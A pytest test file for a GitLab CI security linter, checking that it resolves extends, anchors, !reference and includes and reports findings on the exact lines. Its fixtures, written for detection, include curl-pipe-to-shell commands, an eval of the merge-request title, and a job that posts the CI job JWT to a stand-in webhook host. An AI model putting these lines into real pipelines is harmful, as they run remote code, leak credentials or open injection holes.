"""GitLab CI semantics as a user sees them in findings: extends, default, anchors,
!reference, local includes, stand-alone fragments, exact lines in the right file."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
from fixture_support import CORPUS, needs_corpus

from linter.engine import ScanOptions, scan
from linter.kinds import gitlab_ci
from linter.model import Document


def write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip("\n"))
    return path


def findings(targets, select, monkeypatch, cwd: Path, **kw):
    monkeypatch.chdir(cwd)
    result = scan(ScanOptions(targets=[str(t) for t in targets], select=select, **kw))
    return result, [(f.rule_id, f.path, f.line, f.resource) for f in result.findings]


def jobs(text: str, path: str = ".gitlab-ci.yml") -> dict:
    parsed = gitlab_ci.parse(path, textwrap.dedent(text).lstrip("\n"))
    return {s.resource: s for s in gitlab_ci.subjects(parsed.documents, {}) if s.level == "job"}


def test_extends_merges_hashes_replaces_arrays_and_keeps_template_lines():
    subjects = jobs("""
        .base:
          image: alpine:3.20
          variables: {A: "1", B: "1"}
          script: [echo base]
        .middle:
          extends: .base
          variables: {B: "2"}
          tags: [docker]
        .other:
          variables: {C: "3"}
        job:
          extends: [.middle, .other]
          script: [echo job]
        """)
    job = subjects["job"].node
    assert dict(job["variables"]) == {"A": "1", "B": "2", "C": "3"}
    assert list(job["script"]) == ["echo job"]  # arrays are replaced, never concatenated
    assert job.key_spans["image"].line == 2  # written in .base
    assert job["variables"].key_spans["B"].line == 7  # the override in .middle
    assert set(subjects) == {"job"}  # hidden jobs are templates, not jobs


def test_default_legacy_keywords_and_inherit():
    subjects = jobs("""
        image: ruby:3.3
        default:
          before_script: [bundle install]
        variables:
          GLOBAL: "yes"
        a:
          script: [rake]
        b:
          inherit:
            default: false
            variables: false
          script: [rake]
        """)
    a, b = subjects["a"], subjects["b"]
    assert a.node["image"] == "ruby:3.3" and a.node.key_spans["image"].line == 1
    assert list(a.node["before_script"]) == ["bundle install"]
    assert "GLOBAL" in a.context["variables"]
    assert "before_script" not in b.node and "GLOBAL" not in b.context["variables"]


def test_reference_tags_resolve_to_the_referenced_lines():
    subjects = jobs("""
        .setup:
          script:
            - apt-get update
            - curl -fsSL https://get.example.com | sh
        build:
          script:
            - !reference [.setup, script]
            - make
        """)
    script = subjects["build"].node["script"]
    assert list(script) == ["apt-get update", "curl -fsSL https://get.example.com | sh", "make"]
    assert [s.line for s in script.item_spans] == [3, 4, 8]


def test_anchor_and_reference_findings_point_at_the_written_line(tmp_path, monkeypatch):
    write(tmp_path, ".gitlab-ci.yml", """
        .tools: &tools
          image: node:latest
        .setup:
          script:
            - curl -sL https://deb.example.com/setup | bash -
        lint:
          <<: *tools
          script:
            - !reference [.setup, script]
            - npm run lint
        test:
          <<: *tools
          script: [npm test]
        """)
    _, got = findings([tmp_path], ["GLC001", "GLC005"], monkeypatch, tmp_path)
    assert got == [("GLC001", ".gitlab-ci.yml", 2, "lint"),
                   ("GLC005", ".gitlab-ci.yml", 5, "lint")]


def test_block_script_lines_are_located_exactly(tmp_path, monkeypatch):
    write(tmp_path, ".gitlab-ci.yml", """
        job:
          script:
            - |
              echo one
              echo two

              curl -k https://example.com \\
                -o out
            - >
              curl -k https://example.com/folded
            - &anchored |
              echo three
              curl -k https://example.com/anchored
        """)
    _, got = findings([tmp_path], ["GLC016"], monkeypatch, tmp_path)
    assert got == [("GLC016", ".gitlab-ci.yml", 7, "job"), ("GLC016", ".gitlab-ci.yml", 9, "job"),
                   ("GLC016", ".gitlab-ci.yml", 13, "job")]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    write(tmp_path, ".gitlab-ci.yml", """
        include:
          - local: /.gitlab/ci/templates.yml
          - local: 'ci/**.yml'
          - remote: https://example.com/ci/v1.2.0/lint.yml
        build:
          extends: .docker
          script: [docker build .]
        """)
    write(tmp_path, ".gitlab/ci/templates.yml", """
        .docker:
          image: docker:latest
        """)
    write(tmp_path, "ci/nested/deploy.yml", """
        deploy:
          image: alpine
          script: [./deploy.sh]
        .unused:
          image: busybox
        """)
    return tmp_path


def test_local_includes_report_in_the_included_file_once(repo, monkeypatch):
    result, got = findings([repo], ["GLC001"], monkeypatch, repo)
    assert sorted(got) == [("GLC001", ".gitlab/ci/templates.yml", 2, "build"),
                           ("GLC001", "ci/nested/deploy.yml", 2, "deploy")]
    notes = [n.message for n in result.notes]
    assert any("remote include 'https://example.com/ci/v1.2.0/lint.yml' is not read" in m for m in notes)


def test_an_included_file_passed_alone_is_scanned_alone(repo, monkeypatch):
    # its unused hidden job is a disabled job: a file with jobs of its own is a pipeline
    _, got = findings([repo / "ci/nested/deploy.yml"], ["GLC001"], monkeypatch, repo,
                      force_kind="gitlab-ci")
    assert got == [("GLC001", "ci/nested/deploy.yml", 2, "deploy")]


def test_a_template_library_passed_alone_has_its_templates_checked(repo, monkeypatch):
    _, got = findings([repo / ".gitlab/ci/templates.yml"], ["GLC001"], monkeypatch, repo,
                      force_kind="gitlab-ci")
    assert got == [("GLC001", ".gitlab/ci/templates.yml", 2, ".docker")]


def test_child_pipelines_are_evaluated_on_their_own(tmp_path, monkeypatch):
    write(tmp_path, ".gitlab-ci.yml", """
        default:
          image: ruby:latest
        trigger-child:
          trigger:
            include: ci/child.yml
            strategy: depend
        """)
    write(tmp_path, "ci/child.yml", """
        child-job:
          image: alpine
          script: [true]
        """)
    write(tmp_path, "ci/broken.yml", "child: [unclosed\n")
    write(tmp_path, "ci/more.yml", """
        trigger-broken:
          trigger:
            include: [{local: ci/broken.yml}]
        """)
    (tmp_path / ".gitlab-ci.yml").write_text((tmp_path / ".gitlab-ci.yml").read_text()
                                             + "include: [ci/more.yml]\n")
    result, got = findings([tmp_path], ["GLC001"], monkeypatch, tmp_path)
    # the trigger job itself runs no image; the child does not inherit the parent's default
    assert got == [("GLC001", "ci/child.yml", 2, "child-job")]
    assert any("ci/broken.yml cannot be read" in n.message for n in result.notes)


def test_local_include_never_leaves_the_repository(tmp_path, monkeypatch):
    outside = write(tmp_path, "secret.yml", "leak:\n  image: alpine\n  script: [x]\n")
    repo = tmp_path / "repo"
    write(repo, ".gitlab-ci.yml", """
        include:
          - local: ../secret.yml
          - local: /link.yml
        job:
          image: alpine:3.20.1
          script: [true]
        """)
    (repo / "link.yml").symlink_to(outside)
    result, got = findings([repo], ["GLC001"], monkeypatch, repo)
    assert got == []
    assert sum("not found" in n.message for n in result.notes) == 2


def test_hostile_pipelines_terminate(tmp_path, monkeypatch):
    write(tmp_path, ".gitlab-ci.yml", """
        include:
          - local: .gitlab-ci.yml
          - local: '**/*.yml'
        .a:
          script: !reference [.b, script]
        .b:
          script:
            - !reference [.a, script]
            - !reference [.nope, script]
        job:
          extends: [job, .loop1]
          script: !reference [.a, script]
        .loop1:
          extends: .loop2
        .loop2:
          extends: .loop1
          image: alpine
        """)
    _, got = findings([tmp_path], ["GLC"], monkeypatch, tmp_path)
    assert got == [("GLC001", ".gitlab-ci.yml", 17, "job")]


def test_include_cycle_and_missing_parent_do_not_crash():
    docs = []
    for name, text in ((".gitlab-ci.yml", "job:\n  extends: [.missing, job]\n  script: [x]\n"),):
        docs.extend(gitlab_ci.parse(name, text).documents)
    assert [s.resource for s in gitlab_ci.subjects(docs, {})] == ["pipeline", "job"]


HARDENED = """
include:
  - project: my-group/ci-templates
    ref: 5c4f0e1b2a3d4c5e6f708192a3b4c5d6e7f80912
    file: /templates/build.yml
  - template: Security/SAST.gitlab-ci.yml

workflow:
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
    - if: $CI_COMMIT_TAG

default:
  image: python:3.12.4-slim@sha256:2d1a5b5c1d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a

variables:
  PIP_DISABLE_PIP_VERSION_CHECK: "1"
  DATABASE_PASSWORD: $DB_PASSWORD

test:
  services:
    - name: postgres:16.3@sha256:1111111111111111111111111111111111111111111111111111111111111111
      alias: db
  variables:
    POSTGRES_PASSWORD: postgres
  script:
    - pip install --require-hashes -r requirements.txt
    - pytest
    - echo "Testing $CI_COMMIT_TITLE"
  artifacts:
    paths: [coverage.xml]

sast:
  allow_failure: false

build:
  image:
    name: gcr.io/kaniko-project/executor@sha256:3333333333333333333333333333333333333333333333333333333333333333
    entrypoint: [""]
  script:
    - /kaniko/executor --context "$CI_PROJECT_DIR" --destination "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA"

deploy:
  environment: production
  id_tokens:
    CLOUD_ID_TOKEN:
      aud: https://cloud.example.com
  rules:
    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
      when: manual
  script:
    - echo "$REGISTRY_PASSWORD" | docker login -u deployer --password-stdin registry.example.com
    - ./deploy.sh "$CI_COMMIT_SHA"
"""


def test_hardened_pipeline_has_no_finding_of_medium_or_higher(tmp_path, monkeypatch):
    write(tmp_path, ".gitlab-ci.yml", HARDENED)
    result, _ = findings([tmp_path], ["GLC"], monkeypatch, tmp_path)
    assert [(f.rule_id, f.line, str(f.severity)) for f in result.findings
            if f.severity >= 2] == []


def test_vulnerable_pipeline_is_caught_on_every_line(tmp_path, monkeypatch):
    write(tmp_path, ".gitlab-ci.yml", """
        variables:
          CI_DEBUG_TRACE: "true"
          DOCKER_TLS_CERTDIR: ""
        deploy:
          image: docker:latest
          services: [docker:dind]
          environment: production
          allow_failure: true
          script:
            - curl -s https://get.example.com | sh
            - eval "deploy $CI_MERGE_REQUEST_TITLE"
        """)
    _, got = findings([tmp_path], ["GLC"], monkeypatch, tmp_path)
    assert sorted((rule, line) for rule, _, line, _ in got) == [
        ("GLC001", 5), ("GLC001", 6), ("GLC005", 10), ("GLC006", 2), ("GLC008", 11),
        ("GLC010", 3), ("GLC011", 6), ("GLC012", 7)]


@needs_corpus("scale", "gitlab-ci")
def test_corpus_pipelines_scan_without_errors(monkeypatch):
    monkeypatch.chdir(CORPUS)
    result = scan(ScanOptions(targets=["scale/gitlab-ci", "real/cicd-goat", "real/terragoat/gitlabci"],
                              select=["GLC", "IAC001"]))
    assert not [f for f in result.findings if f.rule_id == "IAC001"]
    assert {"GLC001", "GLC007", "GLC010", "GLC012", "GLC018"} <= {f.rule_id for f in result.findings}


def test_spans_of_included_entries_name_their_file():
    doc = Document("a.yml", "gitlab-ci", gitlab_ci.parse("a.yml", "x:\n  script: [a]\n").documents[0].root, "")
    assert doc.root.key_spans["x"].file == "a.yml"


def test_pipelines_in_gitlab_named_folders_are_found_and_others_skipped(tmp_path, monkeypatch):
    write(tmp_path, "gitlabci/bla.yml", """
        default:
          image:
            name: redis:latest
            entrypoint: ["/bin/bash"]
        deploy:
          script: 'curl -X POST --data "$CI_JOB_JWT_V1" https://webhook.example.com'
        """)
    write(tmp_path, "gitlab/values.yml", "replicas: 3\nimage: {tag: latest}\n")
    result, got = findings([tmp_path], ["GLC"], monkeypatch, tmp_path)
    assert sorted((r, p, line) for r, p, line, _ in got) == [
        ("GLC001", "gitlabci/bla.yml", 3), ("GLC018", "gitlabci/bla.yml", 6)]
    assert "gitlab/values.yml" in {s.path for s in result.skipped}


def test_a_large_plain_yaml_file_under_gitlab_folder_is_not_a_pipeline():
    """(Its speed, once minutes with a backtracking regex, is measured by
    benchmarks/bench_regressions.py.)"""
    from linter.discovery import classify_text

    text = "job:\n" + "".join(f"  key{i}: value {i}\n" for i in range(20000)) + "other: 1\n"
    assert classify_text(Path(".gitlab/ci/big.yml"), text)[0] is None


def test_inline_suppression_and_code_frame_work_in_an_included_file(tmp_path):
    import json
    import subprocess
    import sys

    write(tmp_path, ".gitlab-ci.yml", """
        include: [ci/t.yml]
        job:
          extends: .t
          script: [make]
        other:
          extends: .u
          script: [make]
        """)
    write(tmp_path, "ci/t.yml", """
        .t:
          # iacgate:ignore GLC001 mirrored and scanned by the registry
          image: alpine
        .u:
          image: node
        """)
    out = subprocess.run([sys.executable, "-m", "linter.cli", "scan", ".", "--select", "GLC001",
                          "--format", "json"], cwd=tmp_path, capture_output=True, text=True)
    found = json.loads(out.stdout)["findings"]
    assert [(f["path"], f["line"], f["resource"], bool(f["waiver"])) for f in found] == [
        ("ci/t.yml", 3, "job", True), ("ci/t.yml", 5, "other", False)]
    text = subprocess.run([sys.executable, "-m", "linter.cli", "scan", ".", "--select", "GLC001"],
                          cwd=tmp_path, capture_output=True, text=True)
    assert "5 |   image: node" in text.stdout


def test_pipelines_with_any_name_are_recognised_by_their_jobs(tmp_path):
    from linter.discovery import discover

    write(tmp_path, "samples/pipeline.yml", "stages: [build]\nbuild:\n  image: node\n  script: [npm ci]\n")
    others = {
        "travis.yml": "language: python\nstages: [test]\njobs:\n  include:\n    - stage: test\n      script: pytest\n",
        "azure.yml": "trigger: [main]\npool: {vmImage: ubuntu-latest}\nsteps:\n  - script: echo hi\n",
        "gha.yml": "name: CI\non: push\njobs:\n  build:\n    runs-on: x\n    steps:\n      - run: echo\n",
        "bitbucket.yml": "image: node:20\npipelines:\n  default:\n    - step:\n        script: [npm test]\n",
        "compose.yml": "services:\n  web:\n    image: nginx\n",
    }
    for name, text in others.items():
        write(tmp_path, f"samples/{name}", text)
    kinds = {f.path.name: f.kind for f in discover([tmp_path]).files}
    # only the GitLab pipeline is read as one; the GitHub workflow is read as what it is
    assert kinds == {"pipeline.yml": "gitlab-ci", "gha.yml": "github-actions"}


def test_script_fingerprints_survive_lines_added_above(tmp_path, monkeypatch):
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text("job:\n  script:\n    - make\n    - curl -s https://x.example.com | sh\n")
    before, _ = findings([tmp_path], ["GLC005"], monkeypatch, tmp_path)
    pipeline.write_text("job:\n  script:\n    - echo start\n    - make\n"
                        "    - curl -s https://x.example.com | sh\n")
    after, _ = findings([tmp_path], ["GLC005"], monkeypatch, tmp_path)
    assert [f.line for f in before.findings] == [4] and [f.line for f in after.findings] == [5]
    assert before.findings[0].fingerprint == after.findings[0].fingerprint
